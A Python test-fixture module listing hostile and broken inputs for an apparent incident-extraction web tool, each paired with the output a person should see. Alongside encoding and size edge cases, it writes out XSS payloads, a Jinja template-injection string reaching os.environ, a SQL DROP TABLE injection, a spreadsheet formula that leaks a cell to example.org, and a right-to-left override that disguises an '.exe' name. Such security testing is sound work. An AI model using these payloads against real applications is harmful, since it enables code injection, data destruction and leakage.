"""Titles and texts that mean harm, or are merely broken, and what a person should see instead.

In a browser test, `window.__pwn` (or that of the parent frame) being set means that a title was run as code.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

HOSTILE_TITLES: tuple[str, ...] = (
    '<img src=x onerror="window.__pwn=window.parent.__pwn=1">',
    "</script><script>window.__pwn=window.parent.__pwn=1</script>",
    "`+(window.__pwn=window.parent.__pwn=1)+`",
    "${window.__pwn=window.parent.__pwn=1}",
    '");window.__pwn=window.parent.__pwn=1;("',
    "C:\\temp\\201",
    "{{ cycler.__init__.__globals__.os.environ.setdefault(lipsum.__name__,lipsum.__name__) }}",
    "{% raw %} {{ 7*7 }}",
    "\u0642\u0635\u0641 \u062d\u0644\u0628 (12)",
)
"""As titles, place names, sources: shown letter by letter, never run, never expanded. The last is plain Arabic."""

AS_WRITTEN = "One incident in Homs; the odd characters are shown as written, and nothing runs."
NOTHING_TO_READ = "A sentence that there is no text, and what to paste or upload. No traceback."
NOT_TEXT = "A sentence that this is not a text file, and which files can be read. No half-decoded letters."


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileText:
    """A report that should not break anything."""

    name: str
    content: str | bytes | Callable[[], str | bytes]
    """What is pasted (str) or uploaded (bytes); a callable where it is too big to keep."""
    what_a_person_should_see: str

    def load(self) -> str | bytes:
        """The content itself, made now if need be."""
        return self.content() if callable(self.content) else self.content


def _in_homs(words: str) -> str:
    """A sentence with one incident, and the words in the middle of it."""
    return f"A mortar shell killed three people in Homs on Monday, {words} a doctor said on 5 March 2018."


def _five_megabytes() -> str:
    sentence = "Three people were killed in a clash near Homs on 5 March 2018. "
    return sentence * (5_000_000 // len(sentence) + 1)


def _all_bytes() -> bytes:
    """Every byte value, many times over: no encoding of text looks like this."""
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64


HOSTILE_TEXTS: tuple[HostileText, ...] = (
    HostileText(name="empty", content="", what_a_person_should_see=NOTHING_TO_READ),
    HostileText(name="empty file", content=b"", what_a_person_should_see=NOTHING_TO_READ),
    HostileText(name="whitespace", content=" \t\r\n\u00a0\u2003\n", what_a_person_should_see=NOTHING_TO_READ),
    HostileText(
        name="only invisible marks",
        content="\u200b\u200e\u2060\ufeff",
        what_a_person_should_see=NOTHING_TO_READ,
    ),
    HostileText(
        name="5 MB of text",
        content=_five_megabytes,
        what_a_person_should_see="A sentence that the text is too long, with the limit in characters. At once.",
    ),
    HostileText(
        name="one word of 200,000 letters",
        content="a" * 200_000,
        what_a_person_should_see="That no incident was found. Within seconds.",
    ),
    HostileText(name="binary bytes", content=_all_bytes(), what_a_person_should_see=NOT_TEXT),
    HostileText(
        name="latin-1 bytes with accents",
        content="Dos personas murieron en Bogotá. Three people were killed in Mérida on 5 March 2018.".encode(
            "latin-1"
        ),
        what_a_person_should_see="The text with its accents: Bogotá, Mérida.",
    ),
    HostileText(
        name="utf-16 bytes",
        content="Three people were killed in a clash in Homs on 5 March 2018.".encode("utf-16"),
        what_a_person_should_see="The text as if it were UTF-8; the byte order mark is not a letter of it.",
    ),
    HostileText(
        name="utf-8 bytes with a byte order mark",
        content="Three people were killed in a clash in Homs on 5 March 2018.".encode("utf-8-sig"),
        what_a_person_should_see="The text; the byte order mark is not a letter of it.",
    ),
    HostileText(
        name="utf-8 bytes cut in the middle of a letter",
        content="Three people were killed in Homs, said Fátima Á".encode()[:-1],
        what_a_person_should_see="The text with one replaced letter at its end, or a sentence that it is damaged.",
    ),
    HostileText(
        name="no place in it",
        content="Three people were killed in a clash on 5 March 2018, a doctor said.",
        what_a_person_should_see="One incident in the list of those not placed, with the reason. No marker.",
    ),
    HostileText(
        name="only unknown places",
        content="Three people were killed in Xqzvbville and Wrrtonhaven on 5 March 2018.",
        what_a_person_should_see="One incident in the list of those not placed; the names as written. No marker.",
    ),
    HostileText(
        name="no incident in it",
        content="The choir of Homs will sing Bach again, and tickets are already sold out.",
        what_a_person_should_see="That no incident was found, in a sentence. Not an empty page.",
    ),
    HostileText(
        name="a date in the future",
        content="Three people were killed in a clash in Homs on 5 March 2199.",
        what_a_person_should_see="The incident with a note that its date is after the report, or undated. Not today.",
    ),
    HostileText(
        name="a day that does not exist",
        content="Three people were killed in a clash in Homs on 31 February 2018.",
        what_a_person_should_see="The incident in the list of those not dated, or February 2018. No traceback.",
    ),
    HostileText(name="template expression", content=_in_homs("{{ 7*7 }}"), what_a_person_should_see=AS_WRITTEN),
    HostileText(name="template statement", content=_in_homs("{% for"), what_a_person_should_see=AS_WRITTEN),
    HostileText(
        name="end of a script",
        content=_in_homs("</script><script>window.__pwn=window.parent.__pwn=1</script>"),
        what_a_person_should_see=AS_WRITTEN,
    ),
    HostileText(
        name="template literal",
        content=_in_homs("${alert(1)} `${window.__pwn=window.parent.__pwn=1}`"),
        what_a_person_should_see=AS_WRITTEN,
    ),
    HostileText(
        name="image with a handler",
        content=_in_homs('<img src=x onerror="window.__pwn=window.parent.__pwn=1">'),
        what_a_person_should_see=AS_WRITTEN,
    ),
    HostileText(
        name="markdown link that runs code",
        content=_in_homs("[so](javascript:window.__pwn=1) ![x](https://example.org/track.png)"),
        what_a_person_should_see=AS_WRITTEN + " Nothing is fetched.",
    ),
    HostileText(
        name="quotes for a database",
        content=_in_homs("'); DROP TABLE incidents; --"),
        what_a_person_should_see=AS_WRITTEN + " All other incidents are still there.",
    ),
    HostileText(
        name="spreadsheet formula",
        content='=HYPERLINK("https://example.org/?"&A1,"Homs") Three people were killed in Homs on 5 March 2018.',
        what_a_person_should_see="One incident in Homs. In a downloaded table the cell is text and does not compute.",
    ),
    HostileText(
        name="right-to-left override",
        content=_in_homs("\u202egnp.exe\u202c \u2067or so\u2069"),
        what_a_person_should_see="One incident in Homs; text after the marks is not turned round.",
    ),
    HostileText(
        name="zero-width marks inside names",
        content=_in_homs("near H\u200bo\u200dm\u2060s,"),
        what_a_person_should_see="One incident in Homs; the quoted sentence is the sentence as received.",
    ),
    HostileText(
        name="emoji",
        content=_in_homs("\U0001f4a5\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f8\U0001f1fe"),
        what_a_person_should_see=AS_WRITTEN + " The highlight is not shifted.",
    ),
    HostileText(
        name="lone surrogates",
        content=_in_homs("\ud83d and \udca5,"),
        what_a_person_should_see="One incident in Homs, with replacement marks for the broken letters. No traceback.",
    ),
    HostileText(
        name="NUL",
        content=_in_homs("\x00 and \x07,"),
        what_a_person_should_see="One incident in Homs; the text is not cut at the NUL.",
    ),
    HostileText(
        name="combining marks piled up",
        content=_in_homs("H" + "\u0301" * 500),
        what_a_person_should_see="One incident in Homs; the marks do not cover the rest of the page.",
    ),
)
